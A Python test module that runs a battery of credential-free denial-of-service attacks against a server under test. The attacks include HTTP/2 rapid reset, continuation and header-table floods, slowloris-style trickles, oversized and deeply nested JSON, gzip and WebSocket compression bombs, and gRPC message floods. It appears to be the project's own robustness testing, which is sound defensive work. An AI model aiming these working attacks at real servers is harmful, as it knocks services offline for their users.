"""Attacks that need no credentials, each for some seconds on real ports.

An attack returns how many requests, frames or connections it sent. The server may close its connections.
"""

from __future__ import annotations

import asyncio
import json
import struct
import sys
import time
import zlib
from collections.abc import Callable, Coroutine
from contextlib import suppress
from typing import Any, Final

import grpc
from tests.abuse import h2
from tests.abuse.connections import BROKEN, connect, discard, repeat
from tests.abuse.exception_attacks import hostile_exceptions
from tests.abuse.grpc_attacks import (
    grpc_large_health_checks,
    grpc_large_messages,
    grpc_large_reflections,
    grpc_stalled_health_checks,
    grpc_stalled_messages,
)
from tests.abuse.large_read_attacks import large_reads
from tests.abuse.mcp_attacks import mcp_answers, mcp_deep_json, mcp_listens, mcp_sessions, mcp_unread_results
from tests.abuse.mcp_server_attacks import SERVERS, unreadable_mcp_answers
from tests.abuse.operator_attacks import abandoned_changes, denied_operators
from tests.abuse.schema_attacks import schema_patterns, schema_references, schema_unique_items

from dragoman.core.task import frames

Attack = Callable[[str, str, float], Coroutine[Any, Any, int]]
"""Arguments: HTTP address, gRPC address, seconds."""

LIST: Final = "/lf.a2a.v1.A2AService/ListTasks"
WATCH: Final = "/grpc.health.v1.Health/Watch"


async def _over_h2(address: str, seconds: float, frames_of: Callable[[int], bytes], *, reads: bool = True) -> int:
    """Sends `frames_of(0)`, `frames_of(1)` and so on. Reconnects when the server closes the connection."""
    until, count = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        discard_task, writer = None, None
        with suppress(*BROKEN):
            reader, writer = await h2.connect(address)
            discard_task = asyncio.create_task(discard(reader)) if reads else None
            number = 0
            while time.monotonic() < until and not (discard_task and discard_task.done()):
                writer.write(b"".join(frames_of(number + offset) for offset in range(50)))
                number += 50
                count += 50
                await asyncio.wait_for(writer.drain(), 1)
        if writer is not None:
            writer.transport.abort()
        if discard_task is not None:
            await discard_task
    return count


# HTTP/2 -----------------------------------------------------------------------------------------------------------


async def rapid_reset(http: str, grpc_address: str, seconds: float) -> int:
    """Calls that are reset immediately (CVE-2023-44487)."""
    head = h2.call(LIST)

    def frames_of(number: int) -> bytes:
        stream = 2 * number + 1
        return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) + h2.frame(h2.RESET, 0, stream, struct.pack("!I", 8))

    return sum(await asyncio.gather(*(_over_h2(grpc_address, seconds, frames_of) for _ in range(4))))


async def stream_flood(http: str, grpc_address: str, seconds: float) -> int:
    """Incomplete calls, more than a connection allows."""
    head = h2.call(LIST)
    return sum(
        await asyncio.gather(
            *(
                _over_h2(
                    grpc_address, seconds, lambda number: h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * number + 1, head)
                )
                for _ in range(4)
            )
        )
    )


async def watch_flood(http: str, grpc_address: str, seconds: float) -> int:
    """Health streams, which never end and need no credentials."""
    head, body = h2.call(WATCH), bytes(5)

    def frames_of(number: int) -> bytes:
        stream = 2 * number + 1
        return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) + h2.frame(h2.DATA, h2.END_STREAM, stream, body)

    return sum(await asyncio.gather(*(_over_h2(grpc_address, seconds, frames_of) for _ in range(4))))


async def continuation_flood(http: str, grpc_address: str, seconds: float) -> int:
    """Endless headers (CVE-2024-27316)."""
    header = h2.literal(b"x", b"y" * 1000)

    def frames_of(number: int) -> bytes:
        kind = h2.CONTINUATION if number else h2.HEADERS
        return h2.frame(kind, 0, 1, header)

    return await _over_h2(grpc_address, seconds, frames_of)


async def header_bomb(http: str, grpc_address: str, seconds: float) -> int:
    """A large header in the server's table, referenced a thousand times in each call (CVE-2016-6581)."""
    big = h2.indexed(b"x-bomb", b"y" * 3900)

    def frames_of(number: int) -> bytes:
        head = h2.call(LIST) + (b"" if number else big) + b"\xbe" * 1000
        return h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * number + 1, head)

    return await _over_h2(grpc_address, seconds, frames_of)


async def ping_flood(http: str, grpc_address: str, seconds: float) -> int:
    """Pings, settings and window updates, whose responses are not read (CVE-2019-9512, 9515, 9518)."""
    noise = (
        h2.frame(h2.PING, 0, 0, bytes(8)) + h2.frame(h2.SETTINGS, 0, 0) + h2.frame(h2.WINDOW, 0, 0, bytes((0, 0, 0, 1)))
    )
    return await _over_h2(grpc_address, seconds, lambda _: noise, reads=False)


async def half_open(http: str, grpc_address: str, seconds: float) -> int:
    """Silent connections to both ports."""
    writers = set()
    for number in range(600):
        with suppress(*BROKEN):
            writers.add((await connect(grpc_address if number % 2 else http))[1])
    await asyncio.sleep(seconds)
    for writer in writers:
        writer.transport.abort()
    return len(writers)


# HTTP/1 -----------------------------------------------------------------------------------------------------------


async def _trickle(http: str, seconds: float, start: bytes) -> int:
    """Opens connections that send `start`, then one byte every 0.1 s."""
    writers = []
    for _ in range(300):
        with suppress(*BROKEN):
            writer = (await connect(http))[1]
            writer.write(start)
            writers.append(writer)
    until, count = time.monotonic() + seconds, len(writers)
    while time.monotonic() < until:
        for writer in writers:
            writer.write(b"a")
        count += len(writers)
        await asyncio.sleep(0.1)
    for writer in writers:
        writer.transport.abort()
    return count


async def slow_heads(http: str, grpc_address: str, seconds: float) -> int:
    """Requests whose heads are sent byte by byte."""
    return await _trickle(http, seconds, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")


async def slow_bodies(http: str, grpc_address: str, seconds: float) -> int:
    """Requests whose bodies are sent byte by byte."""
    head = b"POST /message:send HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    return await _trickle(http, seconds, head + b'Content-Length: 16000000\r\n\r\n{"')


async def large_heads(http: str, grpc_address: str, seconds: float) -> int:
    """Headers over the limits of size and number."""
    lines = b"".join(b"X-%d: %b\r\n" % (number, b"y" * 15000) for number in range(90))
    return await repeat(http, seconds, b"GET / HTTP/1.1\r\nHost: localhost\r\n" + lines + b"\r\n")


async def pipelined(http: str, grpc_address: str, seconds: float) -> int:
    """Thousands of pipelined requests, whose responses are not read."""
    batch = b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 2000
    writers, count = [], 0
    until = time.monotonic() + seconds
    writers += [(await connect(http))[1] for _ in range(8)]
    while time.monotonic() < until:
        for writer in writers:
            if writer.transport.get_write_buffer_size() < len(batch):
                writer.write(batch)
                count += 2000
        await asyncio.sleep(0.01)
    for writer in writers:
        writer.transport.abort()
    return count


async def tiny_chunks(http: str, grpc_address: str, seconds: float) -> int:
    """A body of chunks of one byte."""
    head = b"POST /message:send HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    head += b"Transfer-Encoding: chunked\r\n\r\n"
    return await repeat(http, seconds, head + b"1\r\n \r\n" * 200_000 + b"0\r\n\r\n")


# JSON -------------------------------------------------------------------------------------------------------------


def _post(body: bytes, *headers: str) -> bytes:
    lines = "".join(f"{header}\r\n" for header in headers)
    head = "POST /message:send HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    return f"{head}Content-Length: {len(body)}\r\n{lines}\r\n".encode() + body


def _message(part: str) -> bytes:
    return f'{{"message":{{"messageId":"m","role":"ROLE_USER","parts":[{part}]}}}}'.encode()


MEBI: Final = 1 << 20


async def deep_json(http: str, grpc_address: str, seconds: float) -> int:
    """Fifteen million opening brackets."""
    return await repeat(http, seconds, _post(b"[" * (15 * MEBI)))


async def deep_objects(http: str, grpc_address: str, seconds: float) -> int:
    """A part whose data nests as deep as the parser allows."""
    return await repeat(http, seconds, _post(_message('{"data":' + '{"a":' * 240 + "1" + "}" * 240 + "}")))


async def many_values(http: str, grpc_address: str, seconds: float) -> int:
    """Seven million numbers in one part."""
    return await repeat(http, seconds, _post(_message('{"data":[' + "0," * (7 * MEBI) + "0]}")), callers=2)


async def many_parts(http: str, grpc_address: str, seconds: float) -> int:
    """A million parts."""
    return await repeat(http, seconds, _post(_message('{"text":"a"},' * MEBI + '{"text":"a"}')), callers=2)


async def suspicious_json(http: str, grpc_address: str, seconds: float) -> int:
    """Fifteen megabytes that seem to repeat a key, so the server parses them twice."""
    return await repeat(
        http, seconds, _post(_message('{"data":{' + '"\\u0061":1,' * (MEBI + 200_000) + '"b":2}}')), callers=2
    )


def _field(number: int, payload: bytes) -> bytes:
    return frames.frame(number, payload)


async def _over_grpc(address: str, seconds: float, path: str, request: bytes) -> int:
    until, count = time.monotonic() + seconds, 0
    async with grpc.aio.insecure_channel(address, options=[("grpc.max_send_message_length", -1)]) as channel:
        call: Any = channel.unary_unary(path)
        while time.monotonic() < until:
            with suppress(grpc.aio.AioRpcError):
                await call(request)
            count += 1
    return count


async def grpc_values(http: str, grpc_address: str, seconds: float) -> int:
    """Four million values in one part, over gRPC."""
    value = _field(6, _field(1, b"\x08\x00") * (3 * MEBI))  # Value.list_value of null values
    part = _field(4, value)  # Part.data
    request = _field(2, _field(1, b"m") + b"\x20\x01" + _field(5, part))
    return await _over_grpc(grpc_address, seconds, "/lf.a2a.v1.A2AService/SendMessage", request)


async def grpc_parts(http: str, grpc_address: str, seconds: float) -> int:
    """Three million parts, over gRPC, in both packages."""
    old = _field(1, _field(1, b"m") + b"\x20\x01" + _field(5, _field(1, b"a")) * (3 * MEBI))
    new = _field(2, _field(1, b"m") + b"\x20\x01" + _field(5, _field(1, b"a")) * (3 * MEBI))
    return await _over_grpc(grpc_address, seconds / 2, "/a2a.v1.A2AService/SendMessage", old) + await _over_grpc(
        grpc_address, seconds / 2, "/lf.a2a.v1.A2AService/SendMessage", new
    )


async def base64_bomb(http: str, grpc_address: str, seconds: float) -> int:
    """Sixteen megabytes of valid base64, and as much invalid."""
    valid = _post(_message('{"raw":"' + "A" * (15 * MEBI) + '"}'))
    invalid = _post(_message('{"raw":"' + "A" * (15 * MEBI) + '!"}'))
    return sum(await asyncio.gather(repeat(http, seconds, valid, 1), repeat(http, seconds, invalid, 1)))


async def zip_bomb(http: str, grpc_address: str, seconds: float) -> int:
    """256 MiB of zeros, compressed to a thousandth."""
    compressor = zlib.compressobj(9, wbits=31)
    compressed = b"".join([compressor.compress(bytes(MEBI)) for _ in range(256)] + [compressor.flush()])
    return await repeat(http, seconds, _post(compressed, "Content-Encoding: gzip"), callers=2)


# WebSocket --------------------------------------------------------------------------------------------------------

_UPGRADE: Final = (
    b"GET /ws HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
)


def ws_frame(
    opcode: int, payload: bytes, *, final: bool = True, compressed: bool = False, declared_size: int | None = None
) -> bytes:
    """Returns a frame masked with zeros. `declared_size`: the length in its header, if not the actual one."""
    size = len(payload) if declared_size is None else declared_size
    head = bytes((opcode | (0x80 if final else 0) | (0x40 if compressed else 0),))
    if size < 126:
        head += bytes((0x80 | size,))
    elif size < 1 << 16:
        head += b"\xfe" + struct.pack("!H", size)
    else:
        head += b"\xff" + struct.pack("!Q", size)
    return head + bytes(4) + payload


async def _over_ws(http: str, seconds: float, data: bytes, *, extension: str = "", sockets: int = 4) -> int:
    async def client() -> int:
        until, count = time.monotonic() + seconds, 0
        while time.monotonic() < until:
            with suppress(*BROKEN):
                reader, writer = await connect(http)
                writer.write(_UPGRADE + (extension and f"Sec-WebSocket-Extensions: {extension}\r\n").encode() + b"\r\n")
                await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
                discard_task = asyncio.create_task(discard(reader))
                while time.monotonic() < until and not discard_task.done():
                    writer.write(data)
                    count += 1
                    await asyncio.wait_for(writer.drain(), 5)
                writer.transport.abort()
                await discard_task
        return count

    return sum(await asyncio.gather(*(client() for _ in range(sockets))))


async def ws_tiny_frames(http: str, grpc_address: str, seconds: float) -> int:
    """Invalid calls, a thousand at a time."""
    return 1000 * await _over_ws(http, seconds, ws_frame(1, b"{}") * 1000)


async def ws_pings(http: str, grpc_address: str, seconds: float) -> int:
    """Pings, a thousand at a time."""
    return 1000 * await _over_ws(http, seconds, ws_frame(9, b"x" * 100) * 1000)


async def ws_giant_frame(http: str, grpc_address: str, seconds: float) -> int:
    """The start of a frame with a declared size of a terabyte."""
    return await _over_ws(http, seconds, ws_frame(1, bytes(MEBI), declared_size=1 << 40))


async def ws_fragments(http: str, grpc_address: str, seconds: float) -> int:
    """An endless message of mostly empty fragments."""
    fragments = ws_frame(1, b"[", final=False) + ws_frame(0, b"", final=False) * 1000
    return 1000 * await _over_ws(http, seconds, fragments)


async def ws_zip_bomb(http: str, grpc_address: str, seconds: float) -> int:
    """A compressed message of 256 MiB."""
    compressor = zlib.compressobj(9, wbits=-15)
    compressed = b"".join(
        [compressor.compress(bytes(MEBI)) for _ in range(256)] + [compressor.flush(zlib.Z_SYNC_FLUSH)]
    )
    frame = ws_frame(1, compressed.removesuffix(b"\0\0\xff\xff"), compressed=True)
    return await _over_ws(http, seconds, frame, extension="permessage-deflate")


async def ws_bad_text(http: str, grpc_address: str, seconds: float) -> int:
    """Large calls of an unknown method."""
    text = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "x", "params": {"a": "b" * MEBI}}).encode()
    return await _over_ws(http, seconds, ws_frame(1, text))


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        *(rapid_reset, stream_flood, watch_flood, continuation_flood, header_bomb, ping_flood, half_open),
        *(slow_heads, slow_bodies, large_heads, pipelined, tiny_chunks),
        *(
            deep_json,
            deep_objects,
            many_values,
            many_parts,
            suspicious_json,
            grpc_values,
            grpc_parts,
            base64_bomb,
            zip_bomb,
        ),
        *(ws_tiny_frames, ws_pings, ws_giant_frame, ws_fragments, ws_zip_bomb, ws_bad_text),
        *(
            grpc_large_messages,
            grpc_stalled_messages,
            grpc_large_health_checks,
            grpc_stalled_health_checks,
            grpc_large_reflections,
        ),
        *(denied_operators, abandoned_changes),
        *(mcp_deep_json, mcp_answers, mcp_sessions, mcp_unread_results, mcp_listens),
        hostile_exceptions,
        *(schema_unique_items, schema_patterns, schema_references),
        large_reads,
        unreadable_mcp_answers,
    )
}

SETTINGS: Final[dict[str, dict[str, Any]]] = {unreadable_mcp_answers.__name__: {"mcp": SERVERS}}
"""Settings of the server under an attack, beside those for all."""

BOUNDED_STEPS: Final = frozenset(
    attack.__name__
    for attack in (
        *(grpc_large_messages, grpc_stalled_messages, grpc_large_health_checks, grpc_stalled_health_checks),
        *(grpc_large_reflections, hostile_exceptions, large_reads, unreadable_mcp_answers),
        *(schema_unique_items, schema_patterns, schema_references),
    )
)
"""Attacks during which no step of the loop may take long. Requests near the maximum size are parsed in one step."""


def main() -> None:
    """Runs the attack of each line of the input (name, HTTP address, gRPC address, seconds). Prints what it returns."""
    for line in sys.stdin:
        name, http, grpc_address, seconds = line.split()
        print(asyncio.run(ATTACKS[name](http, grpc_address, float(seconds))), flush=True)


if __name__ == "__main__":
    main()
